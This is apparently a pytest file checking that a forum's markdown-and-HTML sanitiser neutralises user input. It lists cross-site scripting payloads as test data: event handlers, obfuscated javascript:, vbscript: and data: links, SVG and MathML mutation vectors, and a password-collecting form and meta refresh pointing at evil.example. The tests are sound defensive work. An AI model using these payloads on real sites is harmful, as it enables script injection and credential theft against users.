"""Whatever a member types, the stored HTML can run no script, load nothing hostile and restyle
nothing. These go through `cook`, the one public door, so markdown and the sanitiser are tested
together the way posts are actually rendered."""

import pytest

from forum.markup import cook
from tests.parsed_html import parse

EVENT_HANDLER_PAYLOADS = [
    '<img src="https://example.org/x.png" onerror="alert(1)">',
    '<p onclick="alert(1)">click me</p>',
    '<a href="https://example.org" onmouseover="alert(1)">hover</a>',
    '<b onfocus="alert(1)" autofocus>bold</b>',
]

SCRIPT_SCHEME_LINKS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JAVASCRIPT:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="java&#10;script:alert(1)">click</a>',
    '<a href="   javascript:alert(1)">click</a>',
    "<a href=javascript:alert(1)>click</a>",
    "[click](vbscript:msgbox(1))",
    '<a href="VBScript:msgbox(1)">click</a>',
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
]


def elements_with_attribute(html: str, prefix: str):
    return [
        (element.tag, name) for element in parse(html).elements
        for name in element.attrs if name.startswith(prefix)
    ]


def hrefs_and_srcs(html: str) -> list[str]:
    page = parse(html)
    return [element.get("href") or "" for element in page.find_all("a")] + [
        element.get("src") or "" for element in page.find_all("img")
    ]


def test_script_tags_are_removed_and_their_code_is_left_as_inert_text():
    html = cook("Before <script>alert('owned')</script> after").html

    assert "script" not in parse(html).tags
    assert "<script" not in html.lower()
    assert "Before" in parse(html).text and "after" in parse(html).text


def test_script_hidden_in_uppercase_or_broken_tags_is_removed():
    html = cook('<SCRIPT SRC="https://evil.example/x.js"></SCRIPT><scr<script>ipt>alert(1)</script>').html

    assert "script" not in parse(html).tags
    assert "evil.example" not in html


@pytest.mark.parametrize("raw", SCRIPT_SCHEME_LINKS)
def test_links_with_script_or_data_schemes_lose_their_target(raw):
    html = cook(raw).html

    link = parse(html).find("a")
    assert link.get("href") is None
    assert link.text == "click"  # the words stay; only the dangerous target goes


@pytest.mark.parametrize("raw", [
    "![chart](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="chart">',
    '<img src="javascript:alert(1)" alt="chart">',
    "![chart](JavaScript:alert(1))",
])
def test_images_with_data_or_script_sources_lose_their_source(raw):
    image = parse(cook(raw).html).find("img")

    assert image.get("src") is None
    assert image.get("alt") == "chart"


@pytest.mark.parametrize("raw", EVENT_HANDLER_PAYLOADS)
def test_event_handler_attributes_are_stripped(raw):
    html = cook(raw).html

    assert elements_with_attribute(html, "on") == []
    assert "alert" not in html


def test_style_tags_and_style_attributes_cannot_restyle_the_page():
    html = cook('<style>body { display: none }</style>\n\n<p style="position:fixed;top:0">cover</p>').html

    page = parse(html)
    assert "style" not in page.tags
    assert elements_with_attribute(html, "style") == []
    assert "cover" in page.text


def test_user_written_classes_and_ids_are_dropped():
    html = cook('<p class="site-header" id="main">pretend chrome</p>').html

    paragraph = parse(html).find("p")
    assert paragraph.attrs == {}


@pytest.mark.parametrize("raw, forbidden", [
    ('<iframe src="https://evil.example/frame"></iframe>', "iframe"),
    ('<object data="https://evil.example/x.swf"></object>', "object"),
    ('<embed src="https://evil.example/x.swf">', "embed"),
    ('<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>', "form"),
    ('<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>', "input"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "meta"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "link"),
    ('<base href="https://evil.example/">', "base"),
])
def test_embedding_and_form_elements_are_removed(raw, forbidden):
    html = cook(raw).html

    assert forbidden not in parse(html).tags
    assert "evil.example" not in html


def test_raw_html_blocks_keep_only_allowed_tags():
    raw = "Intro\n\n<div>\n<b>kept bold</b>\n<marquee>moving</marquee>\n<script>alert(1)</script>\n</div>\n\nOutro"

    page = parse(cook(raw).html)

    assert {"div", "b"} <= page.tags
    assert not {"marquee", "script"} & page.tags
    assert "kept bold" in page.text


@pytest.mark.parametrize("raw", [
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
])
def test_svg_and_mathml_payloads_are_neutralised(raw):
    html = cook(raw).html

    page = parse(html)
    assert not {"svg", "math", "script", "animate", "style"} & page.tags
    assert elements_with_attribute(html, "on") == []
    assert not any(target.lower().startswith("javascript") for target in hrefs_and_srcs(html))


def test_html_comments_are_removed():
    html = cook("visible <!-- <script>alert(1)</script> hidden note -->").html

    assert "<!--" not in html
    assert "hidden note" not in html


def test_links_get_nofollow_ugc_noopener_whatever_rel_was_typed():
    html = cook(
        '[markdown](https://example.org/a) and <a href="https://example.org/b" rel="opener" target="_blank">html</a>'
    ).html

    links = parse(html).find_all("a")
    assert [link.get("href") for link in links] == ["https://example.org/a", "https://example.org/b"]
    assert all(link.get("rel") == "nofollow ugc noopener" for link in links)
    assert all(link.get("target") is None for link in links)


@pytest.mark.parametrize("href", ["https://example.org/x", "http://example.org/x", "mailto:someone@example.org"])
def test_ordinary_link_schemes_are_kept(href):
    link = parse(cook(f"[ok]({href})").html).find("a")

    assert link.get("href") == href


def test_bare_urls_become_nofollow_links():
    html = cook("The trial is registered at https://clinicaltrials.gov/study/NCT04739995 for anyone curious.").html

    link = parse(html).find("a")
    assert link.get("href") == "https://clinicaltrials.gov/study/NCT04739995"
    assert link.get("rel") == "nofollow ugc noopener"


def test_bare_urls_inside_inline_or_fenced_code_stay_plain_text():
    html = cook("Run `curl https://inline.example/x`\n\n```\nhttps://fenced.example/y\n```").html

    page = parse(html)
    assert page.find_all("a") == []
    codes = [code.text for code in page.find_all("code")]
    assert any("https://inline.example/x" in text for text in codes)
    assert any("https://fenced.example/y" in text for text in codes)
